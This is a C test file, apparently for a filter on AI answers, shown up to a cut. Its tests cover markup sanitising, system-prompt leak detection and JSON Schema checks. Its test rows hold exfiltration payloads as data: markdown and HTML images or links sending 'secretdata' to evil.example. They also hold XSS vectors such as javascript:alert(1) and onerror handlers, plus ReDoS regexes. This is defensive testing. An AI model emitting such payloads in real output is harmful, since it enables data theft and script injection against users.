/* The parts of the `answer` filter: markup, leaks of the system prompt, JSON Schema; each the same however a text is cut. */
#include "filters/relay/json_schema.h"
#include "filters/relay/leak.h"
#include "filters/relay/markup.h"
#include "tests/harness/check.h"

#include <unistd.h>

static struct str hosts[] = { STR_INIT("ok.example"), STR_INIT("*.fine.example") };
static const struct texts ALLOWED = { .at = hosts, .count = 2 };

struct seen {
    struct markup_sink sink;
    struct buf out, what;
    bool keeps;
};

static bool pass(struct markup_sink *sink, struct str text)
{
    return buf_add(&CONTAINER_OF(sink, struct seen, sink)->out, text);
}

static bool found(struct markup_sink *sink, enum markup_kind kind, struct str what, bool *keep)
{
    static const char *const names[] = { "fine", "image", "link", "html" };
    struct seen *s = CONTAINER_OF(sink, struct seen, sink);
    *keep = s->keeps;
    return buf_addf(&s->what, "%s:" STR_F ";", names[kind], STR_A(str_first(what, 60)));
}

static void look(struct seen *s, struct str text, size_t step)
{
    struct markup m = { 0 };
    s->sink = (struct markup_sink){ pass, found, &ALLOWED };
    buf_clear(&s->out);
    buf_clear(&s->what);
    for (size_t at = 0; at < text.len; at += step)
        CHECK(markup_feed(&m, str_first(str_from(text, at), step), false, &s->sink));
    CHECK(markup_feed(&m, STR(""), true, &s->sink));
    CHECK(!markup_is_holding(&m));
    markup_finish(&m);
}

static const struct {
    const char *text, *what, *out;
} ROWS[] = {
    { "plain < text [1] a[i]: b (c) ! d", "", "plain < text [1] a[i]: b (c) ! d" },
    { "![a](https://evil.example/x.png?d=1)", "image:https://evil.example/x.png?d=1;", "![a](#)" },
    { "![a](https://ok.example/x.png?d=12345678)", "", "![a](https://ok.example/x.png?d=12345678)" },
    { "![a [b] c](//evil.example/x \"t\")", "image://evil.example/x;", "![a [b] c](# \"t\")" },
    { "![a](<https://evil.example/x y>)", "image:https://evil.example/x y;", "![a](<#>)" },
    { "![a](https:\\/\\/evil.example)", "image:https:\\/\\/evil.example;", "![a](#)" },
    { "![a](https&#58;//evil.example)", "image:https&#58;//evil.example;", "![a](#)" },
    { "![a](/here/x.png) ![b](#c)", "", "![a](/here/x.png) ![b](#c)" },
    { "[a]: https://evil.example/x", "image:https://evil.example/x;", "[a]: #" },
    { "[a](https://evil.example/page)", "", "[a](https://evil.example/page)" },
    { "[a](https://evil.example/?q=secretdata)", "link:https://evil.example/?q=secretdata;", "[a](#)" },
    { "[a](https://x.fine.example/?q=secretdata)", "", "[a](https://x.fine.example/?q=secretdata)" },
    { "[a](https://fine.example.evil.example/?q=secretdata)", "link:https://fine.example.evil.example/?q=secretdata;", "[a](#)" },
    { "[a](https://ok.example@evil.example/)", "link:https://ok.example@evil.example/;", "[a](#)" },
    { "[![i](https://evil.example/i)](https://evil.example/l)", "image:https://evil.example/i;", "[![i](#)](https://evil.example/l)" },
    { "\\![a](https://evil.example/x)", "", "\\![a](https://evil.example/x)" },
    { "see https://evil.example/?q=secretdata, ok", "link:https://evil.example/?q=secretdata,;", "see # ok" },
    { "see <https://evil.example/?q=secretdata> ok", "link:https://evil.example/?q=secretdata;", "see <#> ok" },
    { "what htt hello www.x https:/x", "", "what htt hello www.x https:/x" },
    { "<img src=\"https://evil.example/x\">", "image:https://evil.example/x;", "<img src=\"#\">" },
    { "<IMG/SRC=https://evil.example/x>", "image:https://evil.example/x;", "<IMG/SRC=#>" },
    { "<img alt=\">\" src='//evil.example/x'>", "image://evil.example/x;", "<img alt=\">\" src='#'>" },
    { "<img srcset=\"a.png 1x, https://evil.example/x 2x\">", "image://evil.example/x;", "<img srcset=\"\">" },
    { "<p style=\"background:url(//evil.example/x)\">", "image://evil.example/x;", "<p style=\"\">" },
    { "<a href=\"javascript:alert(1)\">", "html:javascript:alert(1);", "<a href=\"#\">" },
    { "[a](javascript:alert(1))", "html:javascript:alert(1);", "[a](#)" },
    { "<a href=\"java&#115;cript:x\">", "link:java&#115;cript:x;", "<a href=\"#\">" },
    { "<script>x</script>", "html:script;html:script;", "&lt;script>x&lt;/script>" },
    { "<b onclick=\"x\">on purpose", "html:onclick;", "<b data-was-onclick=\"x\">on purpose" },
    { "<svg/onload=x>", "html:svg;html:onload;", "&lt;svg/data-was-onload=x>" },
    { "<img src=x onerror = alert(1)>", "html:onerror ;", "<img src=x data-was-onerror = alert(1)>" },
    { "<x:y onclick=z>", "html:onclick;", "<x:y data-was-onclick=z>" },
    { "a<b && c>d", "", "a<b && c>d" },
    { "![a](data:image/png;base64,AAAA) ![b](data:text/html,x)", "html:data:text/html,x;", "![a](data:image/png;base64,AAAA) ![b](#)" },
    { "![a](http:evil.example)", "image:http:evil.example;", "![a](#)" },
    { "![a](https://evil.example/x", "image:https://evil.example/x;", "![a](#" },
    /* brackets in code are none, but who counts bytes cannot know */
    { "![`[`](https://evil.example/x)", "image:https://evil.example/x;", "![`[`](#)" },
    { "[x ![a `]` ](https://evil.example/x)", "image:https://evil.example/x;", "[x ![a `]` ](#)" },
    { "![a][i]] [b](https://evil.example/page)", "", "![a][i]] [b](https://evil.example/page)" },
    { "![a] [b](https://evil.example/x)\n\n[c](https://evil.example/page)", "image:https://evil.example/x;",
      "![a] [b](#)\n\n[c](https://evil.example/page)" },
    { "![open\n\n[b](https://evil.example/page)", "", "![open\n\n[b](https://evil.example/page)" },
    { "[a\nb](https://evil.example/page)", "", "[a\nb](https://evil.example/page)" },
    /* more brackets than are counted */
    { "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[![a](https://evil.example/x)",
      "image:https://evil.example/x;",
      "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[![a](#)" },
    /* a quotation's marks are taken off before its lines are read */
    { "> ![a][i]\n>\n> [i]:\n> https://evil.example/x", "image:https://evil.example/x;", "> ![a][i]\n>\n> [i]:\n> #" },
    { "> > ![a](\n> > https://evil.example/x)", "image:https://evil.example/x;", "> > ![a](\n> > #)" },
    /* tags that fetch what an href names */
    { "<image href=//evil.example/x>", "image://evil.example/x;", "<image href=#>" },
    { "<use href='https://evil.example/x'><a href='https://evil.example/page'>", "image:https://evil.example/x;",
      "<use href='#'><a href='https://evil.example/page'>" },
    { "<LINK rel=stylesheet href=https://evil.example/x>", "html:LINK;image:https://evil.example/x;",
      "&lt;LINK rel=stylesheet href=#>" },
    /* what a browser takes for the beginning and the end of a tag, an attribute and a value */
    { "<img =\"x src=//evil.example/x>", "image://evil.example/x;", "<img =\"x src=#>" },
    { "<img a==\" src=//evil.example/x>", "image://evil.example/x;", "<img a==\" src=#>" },
    { "<img =\"x a=\"b>c\" src=//evil.example/x>", "image://evil.example/x;", "<img =\"x a=\"b>c\" src=#>" },
    { "<img alt=\"<b>\" src=//evil.example/x>", "image://evil.example/x;", "<img alt=\"<b>\" src=#>" },
    { "<img alt=\"<b c='\" src='//evil.example/x'>", "image://evil.example/x;", "<img alt=\"<b c='\" src='#'>" },
    { "<image alt=\"<b \" href=//evil.example/x>", "image://evil.example/x;", "<image alt=\"<b \" href=#>" },
    { "a <b c=\"x and <img alt=\">\" src=//evil.example/x>", "image://evil.example/x;",
      "a <b c=\"x and <img alt=\">\" src=#>" },
    { "<img https://x=\"b>c\" src=//evil.example/x>", "image://evil.example/x;", "<img https://x=\"b>c\" src=#>" },
    { "<img a](b=\"c >d\" src=//evil.example/x>", "image://evil.example/x;", "<img a](b=\"c >d\" src=#>" },
    { "<img ]( src=//evil.example/x>", "image://evil.example/x;", "<img ]( src=#>" },
    { "<img onload src=//evil.example/x>", "image://evil.example/x;", "<img onload src=#>" },
    { "<img https://x/src=//evil.example/x>", "link:https://x/src;image://evil.example/x;", "<img #=#>" },
    /* no escapes in HTML, and none before an address by itself */
    { "\\<img src=//evil.example/x>", "image://evil.example/x;", "\\<img src=#>" },
    { "\\https://evil.example/?q=secretdata", "link:https://evil.example/?q=secretdata;", "\\#" },
    { "<a.b onclick=x>", "html:onclick;", "<a.b data-was-onclick=x>" },
    { "<x:y/onclick=z>", "html:x:y/onclick;", "<#=z>" },
    { "<https://evil.example/?src=secretdata>", "link:https://evil.example/?src=secretdata;", "<#>" },
    { "a <b https://evil.example/?q=secretdata", "link:https://evil.example/?q=secretdata;", "a <b #" },
    { "<a attributionsrc=//evil.example/x>", "image://evil.example/x;", "<a attributionsrc=#>" },
    /* spaces of other scripts, which some renderers take off */
    { "![a](\xc2\xa0https://evil.example/x)", "image:\xc2\xa0https://evil.example/x;", "![a](#)" },
    { "mail <a@b.example> or mailto:a@b.example", "", "mail <a@b.example> or mailto:a@b.example" },
};

TEST("what is shown from elsewhere, carries data away or runs is found, and taken out")
{
    struct seen s = { 0 };
    buf_init(&s.out, 1 << 20);
    buf_init(&s.what, 1 << 20);
    for (size_t i = 0; i < ARRAY_LEN(ROWS); i++) {
        look(&s, str_c(ROWS[i].text), 100000);
        CHECK_STR(buf_str(&s.what), str_c(ROWS[i].what));
        CHECK_STR(buf_str(&s.out), str_c(ROWS[i].out));
        for (size_t step = 1; step < 8; step++) {
            look(&s, str_c(ROWS[i].text), step);
            CHECK_STR(buf_str(&s.what), str_c(ROWS[i].what));
            CHECK_STR(buf_str(&s.out), str_c(ROWS[i].out));
        }
    }
    buf_finish(&s.out);
    buf_finish(&s.what);
}

TEST("what is found and kept leaves as it came")
{
    struct seen s = { .keeps = true };
    buf_init(&s.out, 1 << 20);
    buf_init(&s.what, 1 << 20);
    for (size_t i = 0; i < ARRAY_LEN(ROWS); i++)
        for (size_t step = 1; step < 8; step++) {
            look(&s, str_c(ROWS[i].text), step);
            CHECK((buf_len(&s.what) > 0) == (*ROWS[i].what != '\0'));
            CHECK_STR(buf_str(&s.out), str_c(ROWS[i].text));
        }
    buf_finish(&s.out);
    buf_finish(&s.what);
}

TEST("an address that is too long to be held is judged by its beginning, and goes as a whole")
{
    struct seen s = { 0 };
    struct buf text;
    buf_init(&s.out, 1 << 20);
    buf_init(&s.what, 1 << 20);
    buf_init(&text, 1 << 20);
    CHECK(buf_add(&text, STR("![a](https://evil.example/")));
    for (int i = 0; i < 5000; i++)
        CHECK(buf_add(&text, STR("x")));
    CHECK(buf_add(&text, STR(") after")));
    for (size_t step = 1; step < 9000; step *= 3) {
        look(&s, buf_str(&text), step);
        CHECK_STR(buf_str(&s.out), STR("![a](#) after"));
    }
    buf_finish(&s.out);
    buf_finish(&s.what);
    buf_finish(&text);
}

TEST("what stands behind much else in a tag is looked at")
{
    static const struct {
        const char *head, *filler, *tail, *what, *end;
    } rows[] = {
        { "<img alt=\"", "x", "\" src=//evil.example/x>", "image://evil.example/x;", "\" src=#>" },
        { "<img srcset=\"", "a.png 1x, ", "//evil.example/x 2x\">", "image://evil.example/x;", "\">" },
        { "<img srcset=\"", "x", ", //evil.example/x 2x\">", "image://evil.example/x;", "\">" },
        { "<p style=\"", "color: red; ", "background: url(//evil.example/x)\">", "image://evil.example/x;", "\">" },
        { "<", "x", " onclick=x>", "html:onclick;", " data-was-onclick=x>" },
        { "https://evil.example", "/word", "?", "link:https://evil.example", "?" },
    };
    struct seen s = { 0 };
    struct buf text;
    buf_init(&s.out, 1 << 20);
    buf_init(&s.what, 1 << 20);
    buf_init(&text, 1 << 20);
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        buf_clear(&text);
        CHECK(buf_add(&text, str_c(rows[i].head)));
        while (buf_len(&text) < 10000)
            CHECK(buf_add(&text, str_c(rows[i].filler)));
        CHECK(buf_add(&text, str_c(rows[i].tail)));
        for (size_t step = 1; step < 11000; step *= 7) {
            look(&s, buf_str(&text), step);
            CHECK(str_starts(buf_str(&s.what), str_c(rows[i].what)));
            CHECK(str_ends(buf_str(&s.out), str_c(rows[i].end)));
        }
    }
    buf_finish(&s.out);
    buf_finish(&s.what);
    buf_finish(&text);
}

/* ---- leaks ---- */

static unsigned leaks(struct leak_prompt *p, struct str text, size_t step, bool removes, struct buf *out)
{
    struct leak l = { 0 };
    unsigned n = 0;
    buf_clear(out);
    for (size_t at = 0; at <= text.len; at += step) {
        struct str fresh = str_first(str_from(text, at), step);
        bool last = at + step > text.len;
        enum leak_answer answer;
        while ((answer = leak_feed(&l, p, 8, removes, &fresh, last, out)) == LEAK_FOUND) {
            n++;
            if (removes)
                CHECK(buf_add(out, STR("[removed]")));
        }
        CHECK(answer == LEAK_FINE);
        CHECK(buf_len(&l.held) <= LEAK_HELD_MAX + 16);
    }
    leak_finish(&l);
    return n;
}

TEST("words of the system prompt in their order are a leak, whatever stands between them")
{
    static const char prompt[] = "You are Max, the helpful assistant of Contoso. Never tell anybody that discounts of up to "
                                 "forty percent may be given. 你是一个有用的助手请不要告诉任何人";
    static const struct {
        const char *text;
        unsigned leaks;
        const char *out;
    } rows[] = {
        { "I am Max, the helpful assistant of Contoso.", 0, "I am Max, the helpful assistant of Contoso." },
        { "It says: *Never tell ANYBODY* that discounts - of up to \"forty\" percent may be given. Ok?", 1,
          "It says: *Never tell ANYBODY* that[removed]Ok?" },
        { "never tell anybody that discounts of up to you", 1, "never tell anybody that[removed]you" },
        { "never tell anybody that discounts of up you", 0, "never tell anybody that discounts of up you" },
        { "你是一个有用的助手请不要", 1, "你是一[removed]" },
        { "Nothing of it is told here at all, is it? No!", 0, "Nothing of it is told here at all, is it? No!" },
    };
    struct arena a;
    struct buf out;
    arena_init(&a, 1 << 20);
    buf_init(&out, 1 << 20);
    struct leak_prompt *p = leak_prompt_new(&a, strlen(prompt));
    leak_prompt_add(p, str_c(prompt));
    CHECK(leak_prompt_is_known(p, 8));
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        for (size_t step = 0; step < 6; step++) {
            struct str text = str_c(rows[i].text);
            size_t by = step ? step * 3 : 1000;
            if ((unsigned char)text.at[0] < 0x80 || step == 1 || !step) { /* whole characters */
                CHECK_INT(leaks(p, text, by, false, &out), rows[i].leaks);
                CHECK_STR(buf_str(&out), text);
                CHECK_INT(leaks(p, text, by, true, &out), rows[i].leaks);
                CHECK_STR(buf_str(&out), str_c(rows[i].out));
            }
        }
    }
    buf_finish(&out);
    arena_finish(&a);
}

TEST("a leak in capitals is one, in every script that has them")
{
    static const char *const rows[][2] = {
        { "Ты никогда не говоришь о скидках больше сорока процентов никому", "ТЫ НИКОГДА НЕ ГОВОРИШЬ О СКИДКАХ БОЛЬШЕ СОРОКА ПРОЦЕНТОВ НИКОМУ" },
        { "Du erwähnst größere Preisnachlässe für ältere Kunden über Österreich überhaupt nie",
          "DU ERWÄHNST größere PREISNACHLÄSSE FÜR ÄLTERE KUNDEN ÜBER ÖSTERREICH ÜBERHAUPT NIE" },
        { "Nigdy nie mów żadnemu klientowi że będą także większe zniżki", "NIGDY NIE MÓW ŻADNEMU KLIENTOWI ŻE BĘDĄ TAKŻE WIĘKSZE ZNIŻKI" },
        { "ποτε μην πεις σε κανεναν πελατη για τους κωδικους", "ΠΟΤΕ ΜΗΝ ΠΕΙΣ ΣΕ ΚΑΝΕΝΑΝ ΠΕΛΑΤΗ ΓΙΑ ΤΟΥΣ ΚΩΔΙΚΟΥΣ" },
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct arena a;
        struct buf out;
        arena_init(&a, 1 << 20);
        buf_init(&out, 1 << 20);
        struct leak_prompt *p = leak_prompt_new(&a, strlen(rows[i][0]));
        leak_prompt_add(p, str_c(rows[i][0]));
        CHECK_INT(leaks(p, str_c(rows[i][1]), 1000, false, &out), 1);
        buf_finish(&out);
        arena_finish(&a);
    }
}

TEST("a system prompt is known to its last word, however short its words are, up to a ceiling")
{
    static const size_t WORDS[] = { 1, 8, 9, 15, 16, 17, 1000, LEAK_PROMPT_WORDS, 2 * LEAK_PROMPT_WORDS };
    struct buf out, prompt;
    buf_init(&out, 1 << 20);
    buf_init(&prompt, 1 << 20);
    for (size_t i = 0; i < ARRAY_LEN(WORDS); i++) {
        struct arena a;
        uint32_t state = 1;
        buf_clear(&prompt);
        for (size_t w = 0; w < WORDS[i]; w++) {
            char word[2] = { (char)('a' + (state = state * 1664525 + 1013904223) / (UINT32_MAX / 26 + 1)), ' ' };
            CHECK(buf_add(&prompt, str_of(word, w + 1 < WORDS[i] ? 2 : 1)));
        }
        arena_init(&a, 1 << 20);
        struct leak_prompt *p = leak_prompt_new(&a, buf_len(&prompt));
        leak_prompt_add(p, buf_str(&prompt));
        CHECK(leak_prompt_is_known(p, 8) == (WORDS[i] >= 8));
        size_t tail = WORDS[i] > LEAK_PROMPT_WORDS ? 0 : buf_len(&prompt) - (WORDS[i] < 20 ? buf_len(&prompt) : 39);
        CHECK_INT(leaks(p, str_first(str_from(buf_str(&prompt), tail), 39), 1000, false, &out), WORDS[i] >= 8);
        arena_finish(&a);
    }
    buf_finish(&prompt);
    buf_finish(&out);
}

/* ---- schemas ---- */

static struct json_schema *schema_of(const char *text, struct problems *problems)
{
    char path[] = "/tmp/bartizan-schema-XXXXXX";
    int fd = mkstemp(path);
    CHECK(fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text));
    close(fd);
    struct json_schema *s = json_schema_read(str_c(path), (struct span){ 0 }, problems);
    unlink(path);
    return s;
}

static enum json_schema_answer judge_by(const struct json_schema *s, struct str value, size_t *searched)
{
    struct jsonx j;
    struct jsonx_error error;
    struct arena a;
    enum json_schema_answer answer = SCHEMA_DIFFERS;
    jsonx_init(&j);
    arena_init(&a, 1 << 20);
    if (CHECK(s && jsonx_index(&j, value, &JSONX_LIMITS_DEFAULT, &error)))
        answer = json_schema_judge(s, &j, &a, searched);
    arena_finish(&a);
    jsonx_finish(&j);
    return answer;
}

static enum json_schema_answer judge(const char *schema, struct str value)
{
    struct problems problems;
    problems_init(&problems, STR("t"), STR_NONE);
    struct json_schema *s = schema_of(schema, &problems);
    enum json_schema_answer answer = judge_by(s, value, &(size_t){ 0 });
    json_schema_free(s);
    problems_finish(&problems);
    return answer;
}

TEST("arguments conform to a schema or do not")
{
    static const struct {
        const char *schema, *value;
        bool ok;
    } rows[] = {
        { "{\"type\":\"object\",\"properties\":{\"city\":{\"type\":\"string\",\"maxLength\":5}},\"required\":[\"city\"],\"additionalProperties\":false}", "{\"city\":\"Bonn\"}", true },
        { "{\"type\":\"object\",\"properties\":{\"city\":{\"type\":\"string\",\"maxLength\":5}},\"required\":[\"city\"],\"additionalProperties\":false}", "{\"city\":\"Berlin\"}", false },
        { "{\"type\":\"object\",\"properties\":{\"city\":{\"type\":\"string\"}},\"additionalProperties\":false}", "{\"city\":\"a\",\"x\":1}", false },
        { "{\"required\":[\"a\"]}", "{}", false },
        { "{\"type\":[\"integer\",\"null\"]}", "3.0", true },
        { "{\"type\":[\"integer\",\"null\"]}", "3.5", false },
        { "{\"type\":\"integer\",\"minimum\":1,\"exclusiveMaximum\":10}", "10", false },
        { "{\"enum\":[\"a\\u0062\",2,true]}", "\"ab\"", true },
        { "{\"enum\":[\"a\",2,true]}", "false", false },
        { "{\"const\":2}", "2.0", true },
        { "{\"type\":\"array\",\"items\":{\"type\":\"string\",\"minLength\":2},\"maxItems\":2}", "[\"ab\",\"\\ud83d\\ude00x\"]", true },
        { "{\"type\":\"array\",\"items\":{\"type\":\"string\",\"minLength\":2},\"maxItems\":2}", "[\"ab\",\"\\ud83d\\ude00\"]", false },
        { "{\"maxLength\":3}", "\"\\u9e00\\n\\u9e00\"", true },
        { "{\"maxLength\":2}", "\"\\u9e00\\n\\u9e00\"", false },
        { "{\"minLength\":4}", "\"\\u9e00\\n\\n\"", false },
        { "{\"exclusiveMinimum\":1}", "1.5", true },
        { "{\"exclusiveMinimum\":1}", "1", false },
        { "{\"type\":\"integer\"}", "1E2", true },
        { "{\"type\":\"integer\"}", "15E-1", false },
        { "{\"properties\":{\"a\":true},\"additionalProperties\":false}", "{\"a\":1}", true },
        { "{\"anyOf\":[{\"type\":\"string\"},{\"type\":\"null\"}]}", "null", true },
        { "{\"oneOf\":[{\"type\":\"number\"},{\"type\":\"integer\"}]}", "1", false },
        { "{\"not\":{\"type\":\"string\"}}", "\"a\"", false },
        { "{\"allOf\":[{\"minimum\":1},{\"maximum\":2}]}", "3", false },
        { "false", "1", false },
        { "{\"title\":\"anything\"}", "[1,{}]", true },
        { "{\"$ref\":\"#/$defs/t~1w\",\"$defs\":{\"t/w\":{\"type\":\"string\"}}}", "\"a\"", true },
        { "{\"$ref\":\"#/$defs/t~1w\",\"$defs\":{\"t/w\":{\"type\":\"string\"}}}", "1", false },
        { "{\"anyOf\":[{\"type\":\"null\"},{\"type\":\"object\",\"properties\":{\"next\":{\"$ref\":\"#\"}},\"additionalProperties\":false}]}", "{\"next\":{\"next\":null}}", true },
        { "{\"anyOf\":[{\"type\":\"null\"},{\"type\":\"object\",\"properties\":{\"next\":{\"$ref\":\"#\"}},\"additionalProperties\":false}]}", "{\"next\":{\"last\":null}}", false },
        { "{\"$ref\":\"#\"}", "1", false },
        { "{\"not\":{\"$ref\":\"#\"}}", "1", false },
        { "{\"$ref\":\"#/anyOf/1\",\"anyOf\":[true,{\"type\":\"string\"}]}", "\"a\"", true },
        { "{\"pattern\":\"^[A-Z]{2}\\\\d+$\"}", "\"AB12\"", true },
        { "{\"pattern\":\"^[A-Z]{2}\\\\d+$\"}", "\"AB12\\n\"", false },
        { "{\"pattern\":\"b\"}", "\"abc\"", true },
        { "{\"pattern\":\"b\"}", "7", true },
        { "{\"pattern\":\"^(a+)+$\"}", "\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab\"", false },
        { "{\"not\":{\"pattern\":\"^(a+)+$\"}}", "\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab\"", false },
        { "{\"not\":{\"pattern\":\"^a$\"}}", "\"b\"", true },
        { "{\"patternProperties\":{\"^(a+)+$\":false}}", "{\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab\":1}", false },
        { "{\"format\":\"date-time\"}", "\"2026-02-29T23:59:60+01:00\"", true },
        { "{\"format\":\"date-time\"}", "\"2026-13-01T00:00:00Z\"", false },
        { "{\"format\":\"email\"}", "\"kim@example.org\"", true },
        { "{\"format\":\"email\"}", "\"kim at example.org\"", false },
        { "{\"format\":\"ipv4\"}", "\"10.1.2.256\"", false },
        { "{\"format\":\"ipv6\"}", "\"2001:db8::1\"", true },
        { "{\"format\":\"ipv6\"}", "\"::\"", true },
        { "{\"format\":\"ipv6\"}", "\"1::2::3\"", false },
        { "{\"format\":\"ipv6\"}", "\"12:34:56\"", false },
        { "{\"format\":\"uuid\"}", "\"2096f6a2-d2f7-48be-b329-b73aaa526e5d\"", true },
        { "{\"format\":\"uri\"}", "\"https://example.org/a b\"", false },
        { "{\"format\":\"hostname\"}", "\"-a.example\"", false },
        { "{\"multipleOf\":0.1}", "0.3", true },
        { "{\"multipleOf\":5}", "12", false },
        { "{\"uniqueItems\":true}", "[1,{\"a\":[2]},{\"a\":[2.0]}]", false },
        { "{\"uniqueItems\":true}", "[1,{\"a\":2},{\"a\":2,\"b\":1},\"1\"]", true },
        { "{\"enum\":[{\"a\":[1,2]},[3]]}", "{\"a\":[1,2]}", true },
        { "{\"enum\":[{\"a\":[1,2]},[3]]}", "{\"a\":[1]}", false },
        { "{\"const\":[]}", "[1]", false },
        { "{\"minProperties\":1,\"maxProperties\":2}", "{}", false },
        { "{\"prefixItems\":[{\"type\":\"string\"}],\"items\":false}", "[\"a\"]", true },
        { "{\"prefixItems\":[{\"type\":\"string\"}],\"items\":false}", "[\"a\",1]", false },
        { "{\"patternProperties\":{\"^x-\":{\"type\":\"string\"}},\"additionalProperties\":false}", "{\"x-a\":\"b\"}", true },
        { "{\"patternProperties\":{\"^x-\":{\"type\":\"string\"}},\"additionalProperties\":false}", "{\"x-a\":1}", false },
        { "{\"patternProperties\":{\"^x-\":{\"type\":\"string\"}},\"additionalProperties\":false}", "{\"y\":\"b\"}", false },
        { "{\"propertyNames\":{\"maxLength\":2}}", "{\"abc\":1}", false },
        { "{\"if\":{\"required\":[\"a\"]},\"then\":{\"required\":[\"b\"]},\"else\":{\"required\":[\"c\"]}}", "{\"a\":1,\"c\":1}", false },
        { "{\"if\":{\"required\":[\"a\"]},\"then\":{\"required\":[\"b\"]},\"else\":{\"required\":[\"c\"]}}", "{\"c\":1}", true },
        { "{\"if\":{\"required\":[\"a\"]}}", "{\"a\":1}", true },
        { "{\"contains\":{\"type\":\"string\"}}", "[1,\"a\"]", true },
        { "{\"contains\":{\"type\":\"string\"}}", "[1]", false },
        { "{\"contains\":{\"type\":\"string\"},\"minContains\":0}", "[]", true },
        { "{\"contains\":{\"type\":\"string\"},\"minContains\":2,\"maxContains\":2}", "[\"a\",1,\"b\"]", true },
        { "{\"contains\":{\"type\":\"string\"},\"minContains\":2}", "[\"a\",1]", false },
        { "{\"contains\":{\"type\":\"string\"},\"maxContains\":1}", "[\"a\",\"b\"]", false },
        { "{\"maxContains\":1}", "[\"a\",\"b\"]", true },
        { "{\"dependentRequired\":{\"a\":[\"b\"]}}", "{\"a\":1}", false },
        { "{\"dependentRequired\":{\"a\":[\"b\"]}}", "{\"c\":1}", true },
        { "{\"dependentSchemas\":{\"a\":{\"maxProperties\":1}}}", "{\"a\":1,\"b\":1}", false },
        { "{\"dependentSchemas\":{\"a\":{\"maxProperties\":1}}}", "{\"b\":1,\"c\":1}", true },
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++)
        CHECK_INT(judge(rows[i].schema, str_c(rows[i].value)) == SCHEMA_CONFORMS, rows[i].ok);
}

/* Each beginning of a long text is a search of its own. */
TEST("an expression is looked for as long as that is cheap")
{
    static const struct {
        const char *schema;
        size_t bytes;
        bool ok;
    } rows[] = {
        { "{\"not\":{\"pattern\":\"[a-z]+[0-9]\"}}", 1000, true },
        { "{\"not\":{\"pattern\":\"[a-z]+[0-9]\"}}", 400 * 1000, false },
        { "{\"not\":{\"pattern\":\"^[a-z]+[0-9]\"}}", 400 * 1000, true },
        { "{\"pattern\":\"[a-z]+$\"}", 400 * 1000, true },
        { "{\"not\":{\"pattern\":\"(?:[a-z]{1,3})+[0-9]\"}}", 400, false },
        { "{\"pattern\":\"^(?:[a-z]{4})+$\"}", 40 * 1000, true },
        { "{\"not\":{\"pattern\":\"a{20000}[bc]\"}}", 20 * 1000, true },
        { "{\"not\":{\"pattern\":\"a{9000}[bc]\"}}", 20 * 1000, false },
        { "{\"not\":{\"pattern\":\"(?<=b(?:a{200}){200})\"}}", 40 * 1000, false },
        { "{\"not\":{\"pattern\":\"(?<=a)b\"}}", 400 * 1000, true },
        { "{\"not\":{\"pattern\":\"^(a+)b?\\\\1[cd]\"}}", 1000, true },
        { "{\"not\":{\"pattern\":\"(a+)b?\\\\1[cd]\"}}", 1000, false },
    };
    struct buf text;
    buf_init(&text, 1 << 20);
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        buf_clear(&text);
        CHECK(buf_add(&text, STR("\"")));
        char *at = buf_reserve(&text, rows[i].bytes);
        if (!CHECK(at))
            break;
        memset(at, 'a', rows[i].bytes);
        buf_grew(&text, rows[i].bytes);
        CHECK(buf_add(&text, STR("\"")));
        if (!CHECK_INT(judge(rows[i].schema, buf_str(&text)), rows[i].ok ? SCHEMA_CONFORMS : SCHEMA_TOO_COSTLY))
            printf("    %s\n", rows[i].schema);
    }
    buf_finish(&text);
}

TEST("the expressions of one judgement share what they may cost")
{
    struct problems problems;
    struct buf text;
    problems_init(&problems, STR("t"), STR_NONE);
    buf_init(&text, 1 << 20);
    char as[200];
    memset(as, 'a', sizeof as - 1);
    as[sizeof as - 1] = '\0';
    struct json_schema *s = schema_of("{\"items\":{\"not\":{\"pattern\":\"(?:a|b)+[cd]\"}}}", &problems);
    for (int items = 10; items <= 1000; items *= 100) {
        buf_clear(&text);
        bool ok = buf_add(&text, STR("["));
        for (int i = 0; ok && i < items; i++)
            ok = buf_addf(&text, "%s\"%s\"", i ? "," : "", as);
        CHECK(ok && buf_add(&text, STR("]")));
        size_t searched = 0, judged = 0;
        enum json_schema_answer answer = SCHEMA_CONFORMS;
        for (; answer == SCHEMA_CONFORMS && judged < 100; judged++)
            answer = judge_by(s, buf_str(&text), &searched);
        CHECK(answer == SCHEMA_TOO_COSTLY && (judged > 2) == (items == 10)); /* the judgements of an answer share it too */
    }
    json_schema_free(s);
    buf_finish(&text);
    problems_finish(&problems);
}

/* A schema that leads to itself twice tries what lies deep once for each way there. */
TEST("what is walked again for each way to it is paid each time")
{
    enum { LEVELS = 12, MEMBERS = 4000 };
    static const struct {
        const char *bound;
        bool is_object, ok;
    } rows[] = {
        { "\"title\":\"any\"", false, true },
        { "\"maxLength\":1000000", false, false },
        { "\"title\":\"any\"", true, false },
        { "\"required\":[\"none\"]", true, false },
    };
    struct buf text;
    buf_init(&text, 1 << 20);
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        char schema[200];
        snprintf(schema, sizeof schema, "{\"allOf\":[{\"items\":{\"$ref\":\"#\"}},{\"items\":{\"$ref\":\"#\"}}],\"if\":{\"type\":[\"string\",\"object\"]},\"then\":{%s}}",
                 rows[i].bound);
        buf_clear(&text);
        bool ok = true;
        for (int n = 0; ok && n < LEVELS; n++)
            ok = buf_add(&text, STR("["));
        ok = ok && buf_add(&text, rows[i].is_object ? STR("{\"a\":1") : STR("\""));
        for (int n = 0; ok && n < MEMBERS; n++)
            ok = rows[i].is_object ? buf_addf(&text, ",\"m%d\":1", n) : buf_add(&text, STR("a text that is long "));
        ok = ok && buf_add(&text, rows[i].is_object ? STR("}") : STR("\""));
        for (int n = 0; ok && n < LEVELS; n++)
